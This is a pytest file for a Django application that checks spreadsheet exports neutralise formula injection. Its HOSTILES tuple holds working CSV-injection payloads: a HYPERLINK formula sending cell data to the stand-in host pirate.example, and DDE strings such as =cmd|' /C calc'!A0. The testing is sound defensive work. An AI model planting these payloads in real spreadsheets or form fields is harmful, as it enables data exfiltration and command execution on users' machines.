"""No live formula in any file (issue 16, finding 1): given hostile text in every free-text
field and name (an imported name `=HYPERLINK(...)`, a motif `=cmd|...`, an analysis typed by a
prestataire), when each role downloads every spreadsheet the application produces (the
exports, the bilan annuel, the états de rémunération, the indicators) and the contract
commands write theirs, then no XLSX cell is a formula, no text starts with a formula
character unescaped, and every CSV parses, with the hostile text kept readable behind an
apostrophe."""

import csv
import io
import re
from datetime import date
from itertools import cycle

import openpyxl
import pytest
from django.core.management import call_command
from django.db import models
from django.urls import reverse

from accounts.models import User
from documents import tableur
from prestataires.models import Parcours
from procurement.models import Demandeur, Lot, Prescription, Prestataire
from remunerations.models import LigneRemuneration
from reporting.models import BilanAnnuel
from tests.isolation import connecte
from tests.prestataires.conftest import a
from tests.test_architecture import RACINE, modules_du_projet

HOSTILES = (
    '=HYPERLINK("http://pirate.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
DEBUTS_DE_FORMULE = ("=", "+", "-", "@", "\t", "\r")
# A signed number or a phone number starts with + or - and calls nothing.
NOMBRE = re.compile(r"[+-]?[\d .()]+")
# Computed, not typed: a key to find duplicates.
CALCULES = {"cle_doublon"}


def textes_libres(modele):
    return [
        champ
        for champ in modele._meta.concrete_fields
        if isinstance(champ, (models.CharField, models.TextField))
        and not (champ.choices or champ.unique or champ.primary_key)
        and champ.name not in CALCULES
    ]


def semer_l_hostile(modeles):
    """Every free-text field and name of these models' rows, each row a hostile text."""
    hostiles = cycle(HOSTILES)
    for modele in modeles:
        champs = textes_libres(modele)
        for pk in modele.objects.values_list("pk", flat=True):
            modele.objects.filter(pk=pk).update(  # as long as the column holds
                **{champ.name: next(hostiles)[: champ.max_length] for champ in champs}
            )


def dangereux(valeur) -> bool:
    return (
        isinstance(valeur, str)
        and valeur.startswith(DEBUTS_DE_FORMULE)
        and not NOMBRE.fullmatch(valeur)
    )


def lire_xlsx(contenu: bytes) -> list:
    """Every cell's value; fails on a formula cell or a text that would run."""
    classeur = openpyxl.load_workbook(io.BytesIO(contenu))
    valeurs = []
    for feuille in classeur:
        for rangee in feuille.iter_rows():
            for cellule in rangee:
                assert cellule.data_type != "f", (feuille.title, cellule.coordinate, cellule.value)
                assert not dangereux(cellule.value), (feuille.title, cellule.coordinate)
                valeurs.append(cellule.value)
    return valeurs


def lire_csv(texte: str, separateur: str) -> list:
    """Every field of a CSV, parsed; fails on a text that would run."""
    rangees = list(csv.reader(io.StringIO(texte, newline=""), delimiter=separateur))
    assert rangees, "CSV vide"
    largeur = len(rangees[0])
    valeurs = []
    for rangee in rangees:
        assert len(rangee) == largeur, rangee
        for valeur in rangee:
            assert not dangereux(valeur), valeur
            valeurs.append(valeur)
    return valeurs


def echappes(valeurs) -> set:
    """The hostile texts found in a file, kept behind their apostrophe."""
    return {hostile for hostile in HOSTILES if f"'{hostile}" in valeurs}


@pytest.fixture
def hostile(demo):
    """The demo on 24/11/2026 with ALPHA's bilan annuel of 2026 written, then every free-text
    field and name made hostile."""
    with a("2026-11-24"):
        reponse = connecte(demo["alpha1"]).post(
            reverse("bilans_annuels:add"), {"lot": Lot.objects.get(numero=1).pk, "annee": 2026}
        )
        assert reponse.status_code == 302
        semer_l_hostile(
            [Demandeur, Prescription, Parcours, LigneRemuneration, BilanAnnuel, Prestataire]
        )
        User.objects.update(first_name=HOSTILES[0], last_name=HOSTILES[1])
        # A person has left (the demo has no exit yet), so that the sorties file has a row.
        entres = Parcours.objects.filter(date_entree__isnull=False).order_by("pk")
        entres.filter(pk=entres.values("pk")[:1]).update(date_sortie=date(2026, 11, 20))
        yield demo


def fichiers_a_telecharger():
    """Every spreadsheet served by a GET, and whether it names people."""
    bilan = BilanAnnuel.objects.get()
    etat = LigneRemuneration.objects.order_by("pk").first().etat
    return [
        (reverse("bilans_annuels:export", args=[bilan.pk, "xlsx"]), True),
        (reverse("remunerations:export", args=[etat.pk, "xlsx"]), True),
        (reverse("remunerations:export_mois", args=["2026-10", "xlsx"]), True),
        (reverse("remunerations:export_annee", args=[2026, "xlsx"]), True),
        (reverse("indicateurs:export", args=["xlsx"]) + "?du=2026-01-01&au=2026-12-31", False),
    ]


def test_aucun_tableur_telecharge_ne_porte_de_formule_quel_que_soit_le_role(hostile):
    with a("2026-11-24", 10):
        for url, nominatif in fichiers_a_telecharger():
            servis, trouves = [], set()
            for user in hostile.values():
                reponse = connecte(user).get(url)
                assert reponse.status_code in (200, 302, 403, 404), (url, user.username)
                if reponse.status_code == 200:
                    servis.append(user.username)
                    trouves |= echappes(lire_xlsx(reponse.content))
            assert servis, url
            assert trouves or not nominatif, url  # the hostile text did reach the file


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
@pytest.mark.parametrize("objet", ["demandeurs", "prescriptions", "parcours", "sorties"])
def test_aucun_export_ne_porte_de_formule_quel_que_soit_le_role(hostile, objet, format_):
    with a("2026-11-24", 10):
        exportateurs = [u for u in hostile.values() if u.has_perm("reporting.exporter_donnees")]
        assert exportateurs
        trouves = set()
        for user in exportateurs:
            reponse = connecte(user).post(
                reverse("exports:index"), {"objet": objet, "format": format_}
            )
            assert reponse.status_code == 200, (user.username, reponse.status_code)
            if format_ == "xlsx":
                valeurs = lire_xlsx(reponse.content)
            else:
                valeurs = lire_csv(reponse.content.decode("utf-8-sig"), ";")
            trouves |= echappes(valeurs)
        assert trouves, objet  # the hostile text did reach the files


def test_les_commandes_du_contrat_n_ecrivent_aucune_formule(hostile, tmp_path):
    def commande(*arguments, sortie=None):
        texte = io.StringIO()
        with a("2026-11-24", 10):
            call_command(*arguments, *(["--sortie", str(sortie)] if sortie else []), stdout=texte)
        return texte.getvalue()

    etats = commande("etats_remuneration", "--mois", "2026-10", "--format", "csv")
    assert echappes(lire_csv(etats, ","))
    commande("etats_remuneration", "--mois", "2026-10", "--format", "xlsx", sortie=tmp_path / "e")
    assert echappes(lire_xlsx((tmp_path / "e").read_bytes()))
    periode = ("--du", "2026-01-01", "--au", "2026-12-31")
    lire_csv(commande("indicateurs", *periode, "--format", "csv"), ",")
    commande("indicateurs", *periode, "--format", "xlsx", sortie=tmp_path / "i")
    lire_xlsx((tmp_path / "i").read_bytes())
    lire_csv(commande("bilans_en_retard", "--date", "2026-11-24", "--format", "csv"), ",")


def test_un_nombre_un_telephone_et_une_date_restent_tels_quels():
    """Neutralising changes no number: the contract's signed amounts and phone numbers."""
    assert tableur.sans_formule("-3") == "-3"
    assert tableur.sans_formule("+687 27 00 00") == "+687 27 00 00"
    assert tableur.sans_formule("2026-11-24") == "2026-11-24"
    assert tableur.sans_formule(-3) == -3
    assert tableur.sans_formule("=1+1") == "'=1+1"


def test_un_seul_module_ecrit_les_csv_et_les_xlsx():
    """Every spreadsheet goes through documents/tableur.py: no other module of the application
    asks tablib for a CSV or an XLSX (a new file cannot bypass the neutralisation)."""
    ecrit = re.compile(r"""\.export\(\s*["'](csv|xlsx)|Databook\(|export_data\(""")
    hors_tableur = [
        str(chemin)
        for chemin in modules_du_projet()
        if not {"tests", "scripts"} & set(chemin.relative_to(RACINE).parts)
        and ecrit.search(chemin.read_text())
    ]
    assert [chemin.rpartition("/")[2] for chemin in hors_tableur] == ["tableur.py"], hors_tableur
